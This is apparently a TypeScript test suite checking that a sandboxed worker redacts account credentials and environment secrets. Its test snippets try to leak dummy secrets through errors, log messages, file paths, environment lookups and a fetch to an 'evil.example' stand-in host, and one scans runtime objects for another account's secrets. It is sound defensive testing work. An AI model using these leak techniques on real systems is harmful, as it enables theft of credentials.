import { deepStrictEqual, match, ok, strictEqual } from "node:assert/strict";
import type { JsonObject } from "@skymap/lib/json";
import { attackTest, collect, command, Target } from "./_attack.ts";

const TOKEN = "xoxb-17-VerySecretToken";
const KEY = '-----BEGIN KEY-----\nab"cd\\ef/+==\n-----END KEY-----';
const PASS = "correct horse battery";
const CREDENTIALS: JsonObject = {
  token: TOKEN,
  nested: { private_key: KEY },
  list: [{ pass: PASS }],
  region: "eu-central-1",
  user_name: "operator",
};
const ACCOUNT = { id: "1", credentials: CREDENTIALS };
const VARIABLE = "variable-of-the-worker";

/** Each secret, also as it stands in JSON and in a URL. */
const FORMS = [TOKEN, KEY, PASS, VARIABLE].flatMap((secret) => [
  secret,
  JSON.stringify(secret).slice(1, -1),
  encodeURIComponent(secret),
]);

function tellsNone(what: unknown): void {
  const text = typeof what === "string" ? what : JSON.stringify(what);
  for (const form of FORMS) ok(!text.includes(form), `${form} in ${text}`);
}

const ALL =
  `const { token, nested: { private_key: key }, list: [{ pass }] } = account.credentials;
  const own = Deno.env.get("EVIL_TOKEN");
  const all = [token, key, pass, own, encodeURIComponent(token), JSON.stringify(account.credentials)].join(" ");`;

/** Places that a secret may be told at, beside where it belongs. */
const TELLS: readonly (readonly [name: string, code: string])[] = [
  ["in an error", `throw new Error(all);`],
  [
    "as the code of an error",
    `throw Object.assign(new Error("x"), { code: all });`,
  ],
  [
    "in the cause of an error",
    `throw new Error("x", { cause: new Error(all) });`,
  ],
  [
    "as a permission that it lacks",
    `throw Object.assign(new Error("x"), { permission: all });`,
  ],
  ["as text that it throws", `throw all;`],
  ["in an issue", `issue("error", all, { all, account });`],
  ["as progress", `progress([all], 1, 2);`],
  [
    "with its last words",
    `setTimeout(() => { throw new Error(all); }); await new Promise(() => {});`,
  ],
  ["in what is no message", `say(token + "\\n"); await new Promise(() => {});`],
  ["as the type of a message", `line({ type: token });`],
  [
    "as a cloud that is not its own",
    `line({ type: "scope", scope: 9, state: "open", cloud: token, account: pass, region: "", kind: key });`,
  ],
  [
    "in a name of a region",
    `line({ type: "scope", scope: 9, state: "open", cloud: "evil", account: "1", region: "", region_name: token, kind: "evil_last" }); line({ type: "scope", scope: 9, state: "complete" });`,
  ],
  [
    "in a file that it may not read",
    `await Deno.readTextFile("/tmp/" + token);`,
  ],
  ["as a variable", `Deno.env.get(token);`],
  ["as a server", `await fetch("http://" + token + ".evil.example/");`],
];

for (const [name, code] of TELLS) {
  attackTest(`tells its secrets ${name}`, async () => {
    const { messages, failure, accesses, outcome } = await collect(
      `${ALL}\n${code}`,
      {
        account: ACCOUNT,
        approved: { env: ["EVIL_TOKEN"] },
        env: { EVIL_TOKEN: VARIABLE },
      },
    );
    tellsNone(messages);
    tellsNone(accesses);
    tellsNone(failure?.message ?? "");
    tellsNone(failure?.details ?? {});
    ok(outcome.nodes >= 2);
  });
}

attackTest("prints its secrets while its author looks on", async () => {
  const { printed } = await collect(
    `${ALL} console.log(all); console.error(all);`,
    {
      account: ACCOUNT,
      approved: { env: ["EVIL_TOKEN"] },
      env: { EVIL_TOKEN: VARIABLE },
    },
  );
  match(printed, /REDACTED/);
  tellsNone(printed);
});

attackTest(
  "tells its secrets where it works on other than accounts",
  async () => {
    const { failure } = await command(`${ALL} throw new Error(all);`, {
      account: ACCOUNT,
      approved: { env: ["EVIL_TOKEN"] },
      env: { EVIL_TOKEN: VARIABLE },
    });
    strictEqual(failure?.code, "task_failed");
    match(failure.message, /REDACTED/);
    tellsNone(failure.message);
    tellsNone(failure.details);
  },
);

attackTest("is told what is no secret, and that stays as it is", async () => {
  const { messages, failure } = await collect(
    `await found.node({ id: "n", reported: { name: account.credentials.region } });
    issue("info", account.credentials.region + " " + account.credentials.user_name + " " + account.id);`,
    { account: ACCOUNT },
  );
  strictEqual(failure, undefined);
  const issue = messages.find(({ type }) => type === "issue");
  ok(issue?.type === "issue");
  strictEqual(issue.message, "eu-central-1 operator 1");
  const nodes = messages.filter(({ type }) => type === "node");
  deepStrictEqual(
    nodes.map((each) => each.type === "node" ? each.reported : {}),
    [{}, {}, { name: "eu-central-1" }],
  );
});

attackTest("looks for the secrets of another account", async () => {
  await using target = new Target(() => new Response("x"));
  const { values, failure } = await command(
    `const seen = [];
    const look = (value, depth) => {
      if (depth > 4 || value === null || !["object", "function"].includes(typeof value)) return;
      for (const key of Reflect.ownKeys(value)) {
        let each;
        try { each = value[key]; } catch { continue; }
        if (typeof each === "string" && each.includes("OTHER")) seen.push(String(key));
        else look(each, depth + 1);
      }
    };
    look({ account, config, args: Deno.args, argv: process.argv, versions: Deno.version }, 0);
    await write({ seen, account: account.id });`,
    {
      account: ACCOUNT,
      env: { OTHER_ACCOUNT: "OTHER", SKYMAP_WORKER_PSK: "OTHER" },
      approved: { net: [target.host] },
    },
  );
  strictEqual(failure, undefined);
  deepStrictEqual(values, [{ seen: [], account: "1" }]);
});
